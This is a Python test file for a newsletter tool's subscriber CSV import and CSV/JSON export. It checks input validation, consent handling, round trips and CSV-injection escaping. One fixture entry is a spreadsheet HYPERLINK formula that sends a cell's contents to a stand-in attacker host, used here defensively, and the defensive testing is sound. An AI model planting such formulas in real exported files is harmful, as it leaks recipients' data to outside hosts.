"""CSV import and CSV/JSON export: bad input, idempotence, consent and round trips."""

from __future__ import annotations

import csv
import io
import json
import stat
from pathlib import Path

import pytest
from sqlalchemy import delete, func, select

from newsletter import subscribers
from newsletter.errors import InputError
from newsletter.store import Store, Subscriber
from newsletter.subscriber_io import RowError, export_csv, export_json, import_csv

SAMPLE = Path(__file__).resolve().parents[1] / "subscribers" / "sample.csv"


def _import(store: Store, path: Path, **options: object):
    with store.begin() as session:
        return import_csv(session, path, **options)


def _export(store: Store) -> str:
    out = io.StringIO()
    with store.session() as session:
        export_csv(session, out)
    return out.getvalue()


def _statuses(store: Store) -> dict[str, str]:
    with store.session() as session:
        return dict(session.execute(select(Subscriber.email, Subscriber.status)).all())


def _csv(tmp_path: Path, text: str, name: str = "list.csv") -> Path:
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    return path


def test_the_sample_list_imports_cleanly(store: Store) -> None:
    """subscribers/sample.csv, which the README imports, is taken whole, names and all."""
    report = _import(store, SAMPLE)
    assert (report.added, report.refused) == (5, [])
    with store.session() as session:
        assert subscribers.get(session, "zoe@example.org").name == "Zoë Łukasiewicz-Müller"
        assert subscribers.get(session, "katherine@example.com").name == "Johnson, Katherine"
        assert subscribers.count(session, "active") == 5


def test_importing_the_same_file_twice_changes_nothing(store: Store) -> None:
    """The second import of a file finds every row unchanged and leaves every field as it was."""
    _import(store, SAMPLE)
    before = _export(store)
    report = _import(store, SAMPLE)
    assert (report.added, report.updated, report.unchanged) == (0, 0, 5)
    assert _export(store) == before


def test_refused_rows_are_listed_and_valid_rows_kept(store: Store, fixtures_dir: Path) -> None:
    """Invalid address, a CR/LF name, a case-only duplicate and an unknown status are each
    refused with the line they start on; the other rows are imported."""
    report = _import(store, fixtures_dir / "subscribers-mixed.csv")
    assert report.refused == [
        RowError(
            3,
            "email: 'not-an-address' is not a valid address (An email address must have an @-sign)",
        ),
        RowError(4, "name: contains a line break or control character (U+000D)"),
        RowError(6, "email: ann@example.com is a duplicate of line 2"),
        RowError(
            7, "status: 'vip' is not one of pending, active, unsubscribed, bounced, complained"
        ),
    ]
    assert _statuses(store) == {"ann@example.com": "active", "dee@example.org": "pending"}
    assert report.to_confirm == ["dee@example.org"]


def test_a_file_without_an_email_column_is_refused_whole(store: Store, fixtures_dir: Path) -> None:
    """No email column: one line naming the file, line 1 and the columns found; nothing written."""
    _import(store, SAMPLE)
    before = _export(store)
    with pytest.raises(
        InputError,
        match=r"subscribers-no-email.csv:1: no 'email' column \(the "
        r"header has 'mail', 'name'\)$",
    ):
        _import(store, fixtures_dir / "subscribers-no-email.csv")
    assert _export(store) == before


def test_a_file_that_is_not_utf8_is_refused_whole(store: Store, fixtures_dir: Path) -> None:
    """Latin-1 bytes: one line naming the file and the line; rows before it are not kept."""
    with pytest.raises(InputError, match=r"subscribers-latin1.csv:3: not UTF-8 \(byte 0xE9"):
        _import(store, fixtures_dir / "subscribers-latin1.csv")
    assert _statuses(store) == {}


def test_bad_bytes_after_many_rows_roll_everything_back(store: Store, tmp_path: Path) -> None:
    """Bytes that are not UTF-8 after several written batches still leave the list as it was."""
    path = tmp_path / "long.csv"
    rows = "".join(f"user{n}@example.com,User {n}\n" for n in range(1200))
    path.write_bytes(b"email,name\n" + rows.encode() + "zoé@example.com,Zoé\n".encode("latin-1"))
    with pytest.raises(InputError, match=r"long.csv:1202: not UTF-8"):
        _import(store, path)
    assert _statuses(store) == {}


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("", r"list.csv: empty; expected a header row with an 'email' column"),
        (
            "email,name,email\na@example.com,A,b@example.com\n",
            r"list.csv:1: column 'email' appears",
        ),
        ('email\n"a@example.com\nb@example.com\n', r"list.csv:3: unexpected end of data"),
        ('email,name\na@example.com,"Ann" Smith\n', r"list.csv:2: ',' expected after '\"'"),
    ],
)
def test_unreadable_files_are_refused_whole(
    store: Store, tmp_path: Path, text: str, message: str
) -> None:
    """An empty file, a repeated column or a broken quote is one line naming file and line."""
    with pytest.raises(InputError, match=message):
        _import(store, _csv(tmp_path, text))


def test_a_missing_file_is_one_line(store: Store, tmp_path: Path) -> None:
    """A path that does not exist is an input error naming it, not a traceback."""
    with pytest.raises(InputError, match=r"nope.csv: No such file or directory"):
        _import(store, tmp_path / "nope.csv")


def test_header_is_forgiving_and_rows_are_strict(store: Store, tmp_path: Path) -> None:
    """A BOM, header case and Mailchimp's 'Email Address' are accepted, extra columns ignored,
    blank lines skipped; a row with more fields than the header is refused."""
    path = _csv(
        tmp_path,
        "\ufeffEmail Address,NAME,Member Rating\n\nann@example.com,Ann,5\n"
        "bob@example.com,Doe, Bob,3\n",
    )
    report = _import(store, path)
    assert report.added == 1
    assert report.refused == [
        RowError(4, "4 fields but the header has 3 (quote values that contain commas)")
    ]


def test_import_never_resubscribes_without_consent(store: Store, tmp_path: Path) -> None:
    """Unsubscribed, bounced and complained subscribers stay so on import; --resubscribe
    brings them back; a status in the file may always stop mail."""
    with store.begin() as session:
        for address, status in [
            ("u@example.com", "unsubscribed"),
            ("b@example.com", "bounced"),
            ("c@example.com", "complained"),
            ("a@example.com", "active"),
        ]:
            added = subscribers.add(session, address)
            if status != "active":
                subscribers.unsubscribe(session, added.id, status=status)
    path = _csv(
        tmp_path,
        "email,status\nu@example.com,\nb@example.com,active\nc@example.com,pending\n"
        "a@example.com,unsubscribed\n",
    )
    report = _import(store, path)
    assert (report.kept_stopped, report.updated) == (3, 1)
    assert _statuses(store) == {
        "u@example.com": "unsubscribed",
        "b@example.com": "bounced",
        "c@example.com": "complained",
        "a@example.com": "unsubscribed",
    }
    report = _import(store, path, resubscribe=True)
    assert _statuses(store) == {
        "u@example.com": "active",
        "b@example.com": "active",
        "c@example.com": "pending",
        "a@example.com": "unsubscribed",
    }
    assert report.to_confirm == ["c@example.com"]


def test_pending_import_confirms_nobody_already_active(store: Store, tmp_path: Path) -> None:
    """With default_status pending, new rows are pending and active subscribers stay active."""
    with store.begin() as session:
        subscribers.add(session, "a@example.com")
    path = _csv(tmp_path, "email,name\na@example.com,Ann\nn@example.com,New\n")
    report = _import(store, path, default_status="pending")
    assert _statuses(store) == {"a@example.com": "active", "n@example.com": "pending"}
    assert (report.added, report.updated, report.to_confirm) == (1, 1, ["n@example.com"])


def test_export_round_trips_through_import(store: Store, tmp_path: Path) -> None:
    """Every field written by export comes back identical when imported into an empty list."""
    _import(store, SAMPLE)
    with store.begin() as session:
        subscribers.remove(session, "ada@example.com")
        subscribers.add(session, "pending@example.com", "Pé", status="pending", source="form")
    exported = tmp_path / "export.csv"
    with store.session() as session:
        assert export_csv(session, exported) == 6
    before = _export(store)
    with store.begin() as session:
        session.execute(delete(Subscriber))
    report = _import(store, exported)
    assert (report.added, report.refused) == (6, [])
    assert _export(store) == before


def test_export_to_a_file_is_private_and_whole(store: Store, tmp_path: Path) -> None:
    """An export file is readable by its owner only and appears only once complete."""
    _import(store, SAMPLE)
    folder = tmp_path / "exports"
    folder.mkdir()
    with store.session() as session:
        export_csv(session, folder / "out.csv")
        with pytest.raises(InputError, match="No such file or directory"):
            export_csv(session, folder / "missing" / "out.csv")
    assert stat.S_IMODE((folder / "out.csv").stat().st_mode) == 0o600
    assert [p.name for p in folder.iterdir()] == ["out.csv"]


def test_json_export_is_a_list_of_objects(store: Store) -> None:
    """JSON is one list of objects with every field, null for missing values; [] when empty."""
    out = io.StringIO()
    with store.session() as session:
        assert export_json(session, out) == 0
    assert json.loads(out.getvalue()) == []
    _import(store, SAMPLE)
    out = io.StringIO()
    with store.session() as session:
        export_json(session, out, status="active")
        total = session.scalar(select(func.count()).select_from(Subscriber))
    records = json.loads(out.getvalue())
    assert len(records) == total == 5
    assert records[2]["email"] == "linus@example.com" and records[2]["name"] is None
    assert set(records[0]) == set(subscribers.FIELDS)


FORMULA_NAMES = {
    "eq@example.com": '=HYPERLINK("https://evil.example/?"&A2,"Click")',
    "plus@example.com": "+1 (555) 0100",
    "minus@example.com": "-2+3",
    "at@example.com": "@SUM(A1:A9)",
    "quoted@example.com": "'=already quoted by hand",
    "quotes@example.com": "''+two quotes",
    "plain@example.com": "O'Brien = fine in the middle",
    "-dash@example.com": "Dash Address",
}


def test_export_never_writes_a_spreadsheet_formula_and_import_reads_it_back(
    store: Store, tmp_path: Path
) -> None:
    """Names typed into the public form such as `=HYPERLINK(...)`, `+…`, `-…`, `@…` (and
    an address starting with `-`) are exported with a leading `'`, so no spreadsheet runs
    them (OWASP CSV injection); importing that file gives back exactly what was stored."""
    with store.begin() as session:
        for address, name in FORMULA_NAMES.items():
            subscribers.add(session, address, name)
    exported = _export(store)
    rows = {row[0]: row for row in csv.reader(io.StringIO(exported))}
    for row in rows.values():
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert rows["'-dash@example.com"][1] == "Dash Address"
    assert rows["eq@example.com"][1] == "'" + FORMULA_NAMES["eq@example.com"]
    assert rows["quoted@example.com"][1] == "''=already quoted by hand"
    assert rows["plain@example.com"][1] == FORMULA_NAMES["plain@example.com"]

    with store.begin() as session:
        session.execute(delete(Subscriber))
    report = _import(store, _csv(tmp_path, exported, "round-trip.csv"))
    assert (report.added, report.refused) == (len(FORMULA_NAMES), [])
    with store.session() as session:
        names = {address: subscribers.get(session, address).name for address in FORMULA_NAMES}
    assert names == FORMULA_NAMES
    assert _export(store) == exported
